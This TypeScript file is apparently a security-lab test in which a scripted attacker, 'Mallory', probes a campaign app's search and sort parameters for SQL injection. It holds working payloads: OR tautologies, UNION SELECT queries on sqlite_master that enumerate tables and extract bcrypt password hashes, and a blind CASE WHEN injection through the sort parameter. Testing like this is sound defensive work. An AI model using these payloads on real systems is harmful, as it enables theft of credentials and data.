import { client, type Answer, type Client } from "../client.js";
import { defineLab, type Say } from "../lab.js";
import { newCampaign, signUp } from "../people.js";

const BCRYPT_HASH = /\$2[ab]\$\d\d\$[./A-Za-z0-9]{53}/;
const MOST_COLUMNS = 12;

export const sqlInjection = defineLab({
  name: "sql-injection",
  title: "SQL in ?q= and ?sort=",
  story:
    "Mallory may search the campaigns and sort them. She writes SQL where a word is expected. She does not know the " +
    "tables: she asks for them first.",

  async hold({ url }) {
    const mallory = await signUp(url, "mallory");
    for (const name of ["A launch", "Z launch"]) await newCampaign(url, mallory, `${name} of ${mallory.username}`);
    return { token: mallory.access, username: mallory.username };
  },

  async attack({ url, held: { token, username }, say }) {
    const http = client(url);
    const search: Search = (sql) => http.get(`/campaigns?q=${encodeURIComponent(sql)}`, { token });
    const isJoined = await isPartOfStatement(search, say);
    const isStolen = await findHash(search, say);
    say("Sort by a question about another table: the order of the list is the answer, yes or no.");
    const isAnswered = await isOrderAnAnswer(client(url, say), token, username);
    const done = [
      isJoined && "The search is part of the statement",
      isStolen && "a password hash came back in a list of campaigns",
      isAnswered && "the order of a list answers any question",
    ].filter(Boolean);
    return done.length > 0
      ? { succeeded: true, because: `${done.join("; ")}.` }
      : { succeeded: false, because: "What was searched for was only searched for, and no such order exists." };
  },
});

type Search = (sql: string) => Promise<Answer>;

/** Whether a search finds what no name contains, when it says OR. */
async function isPartOfStatement(search: Search, say: Say): Promise<boolean> {
  say("Search for what no name contains, OR for what is always so.");
  const hasRows = async (sql: string): Promise<boolean> => {
    const { status, body } = await search(sql);
    const rows = status === 200 ? (body["data"] as unknown[]) : [];
    say(`GET /campaigns?q=${sql} → ${status} with ${rows.length > 0 ? "campaigns" : "none"}`, "wire");
    return rows.length > 0;
  };
  const [always, never] = [await hasRows("zzz' OR 'a' LIKE 'a"), await hasRows("zzz' OR 'a' LIKE 'b")];
  return always && !never;
}

/** Whether a search can be made to show a password hash. */
async function findHash(search: Search, say: Say): Promise<boolean> {
  say("End the string, and add a UNION that asks for the names of tables, with more and more columns.");
  for (let columns = 1; columns <= MOST_COLUMNS; columns += 1) {
    const rest = ", NULL".repeat(columns - 1);
    const { status, text } = await search(`zzz' UNION SELECT sql${rest} FROM sqlite_master --`);
    const [, table, column] = /CREATE TABLE (\w*users\w*) [^]*?(\w*hash\w*)/.exec(text) ?? [];
    if (columns === 1) say(`GET /campaigns?q=zzz' UNION SELECT sql FROM sqlite_master -- → ${status}`, "wire");
    if (table === undefined) continue;
    say(`With ${columns} columns it answers, and there is ${table}.${column}. Ask for it in the same way.`);
    const [hash] = BCRYPT_HASH.exec((await search(`zzz' UNION SELECT ${column}${rest} FROM ${table} --`)).text) ?? [];
    say(`GET /campaigns?q=zzz' UNION SELECT ${column}${rest} FROM ${table} -- → ${hash?.slice(0, 10)}…`, "wire");
    return hash !== undefined;
  }
  say(`With up to ${MOST_COLUMNS} columns there was no other answer.`, "wire");
  return false;
}

/** Whether the order of a list depends on a condition that the client writes. */
async function isOrderAnAnswer(http: Client, token: string, username: string): Promise<boolean> {
  const orderIf = async (condition: string): Promise<string> => {
    const sort = `(CASE WHEN ${condition} THEN name ELSE -unicode(name) END)`;
    const { status, body } = await http.get(`/campaigns?q=${username}&sort=${encodeURIComponent(sort)}`, { token });
    const rows = (body["data"] ?? []) as { name: string }[];
    return status === 200 ? rows.map(({ name }) => name).join() : "";
  };
  const yes = await orderIf("(SELECT count(*) FROM sqlite_master) > 0");
  return yes !== "" && yes !== (await orderIf("(SELECT count(*) FROM sqlite_master) < 0"));
}
